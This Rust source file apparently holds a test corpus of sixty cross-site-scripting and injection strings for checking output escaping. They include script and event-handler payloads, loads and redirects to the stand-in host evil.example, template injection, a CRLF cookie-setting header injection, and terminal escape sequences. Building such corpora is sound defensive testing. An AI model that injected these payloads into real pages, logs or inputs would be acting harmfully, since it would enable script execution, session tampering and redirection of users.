//! Sixty texts that are dangerous if put into a page, a log or a line without escaping.

/// One text per known technique.
#[rustfmt::skip]
pub(super) const CORPUS: [&str; 60] = [
    // Elements.
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>", "<script/x>alert(1)</script>", "<img src=x onerror=alert(1)>", "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<img src=`x` onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<math><mtext><script>alert(1)</script></mtext></math>",
    "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<link rel=stylesheet href=//evil.example>",
    "<style>@import'//evil.example';</style>", "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input type=submit>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>", "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<textarea></textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--><script>alert(1)</script>-->", "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"/>", "<a href=javascript:alert(1)>x</a>", "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    // Attributes, scripts and styles.
    "\" onmouseover=\"alert(1)", "' onmouseover='alert(1)", "` onmouseover=`alert(1)", "\"><script>alert(1)</script>", "'><script>alert(1)</script>",
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "';alert(1);//", "\";alert(1);//", "\\\";alert(1);//", "${alert(1)}", "{{constructor.constructor('alert(1)')()}}",
    "expression(alert(1))", "url(javascript:alert(1))",
    // Encodings and line breaks.
    "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "\u{ff1c}script\u{ff1e}alert(1)",
    "\u{2028}alert(1)\u{2029}", "x\r\nset-cookie: a=b\r\n\r\n<script>alert(1)</script>", "data: x\n\nevent: job\ndata: {}\n\n", "\u{202e}<\u{1b}]0;x\u{7}>",
];
